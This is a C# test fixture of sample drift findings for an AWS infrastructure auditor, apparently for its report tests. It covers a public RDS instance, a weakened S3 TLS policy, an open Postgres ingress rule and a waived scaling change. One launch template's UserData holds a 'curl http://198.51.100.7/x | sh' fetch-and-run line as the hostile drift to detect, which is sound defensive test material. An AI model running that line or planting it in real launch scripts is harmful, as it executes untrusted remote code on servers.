using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;
using Auditor.Auditing;
using Auditor.Drift;
using Policies.Model;

namespace Auditor.Tests.Reporting;

/// <summary>What a comparison of <see cref="SampleResult"/>'s stacks could come to: every kind of difference, with and without policies, waived, secret, in documents.</summary>
internal static class SampleDrift
{
    private const string Account = "123456789012";

    private static readonly AuditedResource Database = Resource("production", "DatabaseB269D8BB", "AWS::RDS::DBInstance", "Database/Resource") with
    {
        PhysicalId = "housing-trends-production",
        Arn = "arn:aws:rds:us-east-1:123456789012:db:housing-trends-production",
    };

    private static readonly AuditedResource Service = Resource("production", "BackendService7A4224EE", "AWS::ECS::Service", "Backend/Service/Service");

    /// <summary>The differences alone.</summary>
    public static DriftReport Report { get; } = new()
    {
        Against = "both",
        Differences = [.. Drifted(), .. Whole(), .. Pending()],
        Stacks =
        [
            new("HousingTrends-development", Account, "us-east-1") { Environment = "development", IsSynthesized = true },
            new("HousingTrends-production", Account, "us-east-1") { Environment = "production", Status = "UPDATE_COMPLETE", IsSynthesized = true, Resources = 66, Compared = 65, Drifted = 9, Pending = 3 },
            new("HousingTrends-production/Search", Account, "us-east-1") { Environment = "production", Status = "UPDATE_COMPLETE", IsSynthesized = true, Resources = 4, Compared = 4 },
            new("HousingTrends-staging", Account, "us-east-1") { Environment = "staging", Status = "UPDATE_ROLLBACK_FAILED", IsSynthesized = true, Resources = 64, Compared = 0, Problem = "cloudformation:GetTemplate was denied: grant it to the auditor's role" },
            new("LegacyExports", Account, "eu-central-1") { Status = "CREATE_COMPLETE", IsSynthesized = false, Resources = 3, Compared = 3 },
        ],
        Listed = [$"{Account}/eu-central-1", $"{Account}/us-east-1"],
        Equivalences =
        [
            new("arn-or-name", "an ARN and the name in it are one key", "AWS::RDS::DBInstance", "KmsKeyId", 2),
            new("tags-of-aws", "AWS and the CDK add these tags", "AWS::EC2::Subnet", "Tags/*", 12),
            new("tags-of-aws", "AWS and the CDK add these tags", "AWS::S3::Bucket", "Tags/*", 9),
        ],
        NotCompared =
        [
            new("AWS::Lambda::Function", "Code", "AWS shows where it lies and not what it is", 2),
            new("AWS::RDS::DBInstance", "MasterUserPassword", "AWS never shows it", 1),
            new("AWS::WAFv2::WebACL", null, "wafv2:ListWebACLs was denied in 123456789012/us-east-1", 1),
        ],
        Gone = ["Properties/MinCapacity of HousingTrends-production/Backend/Service/TaskCount/Target"],
    };

    /// <summary>The sample result with them.</summary>
    public static AuditResult Full { get; } = With(SampleResult.Full, Report);

    /// <summary>A comparison that found nothing.</summary>
    public static AuditResult Clean { get; } = With(SampleResult.Clean, new()
    {
        Against = "deployed",
        Stacks = [new("HousingTrends-production", Account, "us-east-1") { Environment = "production", Status = "UPDATE_COMPLETE", Resources = 65, Compared = 65 }],
        Equivalences = Report.Equivalences,
    });

    /// <summary>A result with a report of drift, and counted so.</summary>
    public static AuditResult With(AuditResult result, DriftReport report)
    {
        var open = report.Differences.Where(difference => difference.Waiver is null).ToArray();
        return result with
        {
            Drift = report,
            Summary = result.Summary with
            {
                Blocking = result.Summary.Blocking + open.Count(difference => difference.Blocking),
                Drifted = open.Count(difference => difference.Kind is DifferenceKind.NotEqual or DifferenceKind.Add or DifferenceKind.Remove),
                Pending = open.Count(difference => difference.Kind is DifferenceKind.PendingChange),
                Missing = open.Count(difference => difference.Kind is DifferenceKind.Missing),
                Unmanaged = open.Count(difference => difference.Kind is DifferenceKind.Unmanaged),
            },
        };
    }

    private static IEnumerable<Difference> Drifted()
    {
        var group = Resource("production", "DatabaseSecurityGroup7319C0F6", "AWS::EC2::SecurityGroup", "Database/SecurityGroup/Resource");
        var policy = Resource("production", "WebsiteBucketPolicyE10E3262", "AWS::S3::BucketPolicy", "Edge/WebsiteBucket/Policy/Resource");
        yield return Of(DifferenceKind.NotEqual, Database, "Properties/PubliclyAccessible", "false", "true", Severity.Critical, "rds-not-publicly-accessible") with { Location = In("production", 1136), Source = new("src/ReferenceStack/Data/Database.cs", 41, 0), Baseline = "new" };
        yield return Of(DifferenceKind.NotEqual, policy, "Properties/PolicyDocument", Document("Deny", """ "Condition": { "Bool": { "aws:SecureTransport": "false" } }"""), Document("Allow", """ "Condition": { "Bool": { "aws:SecureTransport": "true" } }, "NotPrincipal": "*" """), Severity.High, "s3-tls-only") with { Location = In("production", 120) };
        yield return Of(DifferenceKind.Add, group, "Properties/SecurityGroupIngress/1", null, """{ "CidrIp": "0.0.0.0/0", "Description": "for the weekend", "FromPort": 5432, "IpProtocol": "tcp", "ToPort": 5432 }""", Severity.High, "ec2-no-open-ingress") with { Remediation = "Redeploy the stack, or declare the item in the code." };
        yield return Of(DifferenceKind.NotEqual, Database, "Properties/BackupRetentionPeriod", "7", "1", Severity.High, "rds-backup-retention") with { Location = In("production", 1128), Source = new("src/ReferenceStack/Data/Database.cs", 41, 0), Baseline = "unchanged", Blocking = false, Synthesized = JsonValue.Create(14) };
        yield return Of(DifferenceKind.NotEqual, Database, "Properties/MasterUserPassword", "\"sha256:5e884898da28\"", "\"sha256:2bd806c97f0e\"", Severity.Low) with { IsSecret = true, Remediation = "Rotate the secret and redeploy the stack." };
        yield return Of(DifferenceKind.Remove, Database, "Properties/Tags/2", """{ "Key": "team", "Value": "housing" }""", null, Severity.Low);
        yield return Of(DifferenceKind.NotEqual, Resource("production", "ApiHandler5E7490E8", "AWS::Lambda::Function", "Api/Handler/Resource"), "Properties/Environment/Variables/SETTINGS", Text("""{"region":"us-east-1","retries":3,"hosts":["a.example.com","b.example.com"]}"""), Text("""{"region":"us-east-1","retries":5,"hosts":["a.example.com","c.example.com"]}"""), Severity.Low);
        yield return Of(DifferenceKind.NotEqual, Resource("production", "HostTemplate", "AWS::EC2::LaunchTemplate", "Host/Template"), "Properties/LaunchTemplateData/UserData", Text("#!/bin/bash\nset -e\nyum update -y\necho ready\n"), Text("#!/bin/bash\nset -e\ncurl http://198.51.100.7/x | sh\necho ready\n"), Severity.Low);
        yield return Of(DifferenceKind.NotEqual, Service, "Properties/DesiredCount", "2", "6", Severity.Low) with { Blocking = false, Waiver = new("Scaled by hand for the launch; back to two afterwards.", "platform@example.com", new DateOnly(2026, 12, 31), new("policies.json", 44, 5)) };
    }

    private static IEnumerable<Difference> Whole()
    {
        yield return Of(DifferenceKind.Missing, Resource("production", "CpuAlarm3F1B7A90", "AWS::CloudWatch::Alarm", "Alarms/Cpu/Resource") with { PhysicalId = "housing-trends-cpu" }, null, null, null, Severity.High) with { Location = In("production", 1804) };
        yield return Of(DifferenceKind.Unmanaged, Live("AWS::S3::Bucket", "housing-exports"), null, null, null, Severity.High, "s3-tls-only") with { MadeBy = new("alice@example.com", "CreateBucket", new(2026, 11, 20, 9, 30, 0, TimeSpan.Zero)), Remediation = "Delete it, or import it into a stack." };
        yield return Of(DifferenceKind.Unmanaged, Live("AWS::S3::Bucket", "housing-scratch"), null, null, null, Severity.Low) with { Remediation = "Delete it, or import it into a stack." };
        yield return Of(DifferenceKind.Unmanaged, Live("AWS::CloudFormation::Stack", "LegacyExports") with { Stack = "LegacyExports", Region = "eu-central-1" }, null, null, null, Severity.Low) with { Remediation = "Delete the stack, or synthesize it again." };
    }

    private static IEnumerable<Difference> Pending()
    {
        yield return Of(DifferenceKind.PendingChange, Service, "Properties/DeploymentConfiguration/MinimumHealthyPercent", "0", "100", Severity.Medium, "ecs-tasks-redundant") with { Location = In("production", 702), Source = new("src/ReferenceStack/Compute/Backend.cs", 52, 0), Blocking = false, Remediation = "Deploy the stack once the code keeps the policy." };
        yield return Of(DifferenceKind.PendingChange, Database, "Properties/BackupRetentionPeriod", "14", "7", Severity.Low) with { Location = In("production", 1128), Remediation = "Deploy the stack." };
        yield return Of(DifferenceKind.PendingChange, Resource("production", "QueueDepthAlarm0C1D2E3F", "AWS::CloudWatch::Alarm", "Alarms/QueueDepth/Resource"), null, null, null, Severity.Low) with { Location = In("production", 1850), Remediation = "Deploy the stack." };
    }

    private static string Document(string effect, string condition) =>
        $$"""{ "Version": "2012-10-17", "Statement": [ { "Sid": "Read", "Effect": "Allow", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::housing-website/*", "Principal": { "Service": "cloudfront.amazonaws.com" } }, { "Sid": "Tls", "Effect": "{{effect}}", "Action": "s3:*", "Resource": ["arn:aws:s3:::housing-website", "arn:aws:s3:::housing-website/*"], "Principal": "*",{{condition}} } ] }""";

    private static string Text(string text) => JsonValue.Create(text).ToJsonString();

    private static Difference Of(DifferenceKind kind, AuditedResource resource, string? path, string? expected, string? actual, Severity severity, params string[] policies) => new()
    {
        Id = "1-" + Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes($"{resource.Stack}\n{resource.LogicalId}\n{path}\n{kind is DifferenceKind.PendingChange}")).AsSpan(0, 10)),
        Kind = kind,
        Resource = resource,
        Path = path,
        Expected = expected is null ? null : JsonNode.Parse(expected),
        Actual = actual is null ? null : JsonNode.Parse(actual),
        Policies = [.. policies],
        Severity = severity,
        Remediation = "Redeploy the stack, or write the value into the code.",
        Blocking = severity >= Severity.High,
    };

    private static Location In(string environment, int line) => new($"cdk.out/HousingTrends-{environment}.template.json", line, 5);

    private static AuditedResource Live(string type, string id) => new() { Type = type, LogicalId = id, PhysicalId = id, Account = Account, Region = "us-east-1" };

    private static AuditedResource Resource(string environment, string logicalId, string type, string path) => new()
    {
        Type = type,
        LogicalId = logicalId,
        Stack = $"HousingTrends-{environment}",
        Environment = environment,
        ConstructPath = $"HousingTrends-{environment}/{path}",
        Account = Account,
        Region = "us-east-1",
    };
}
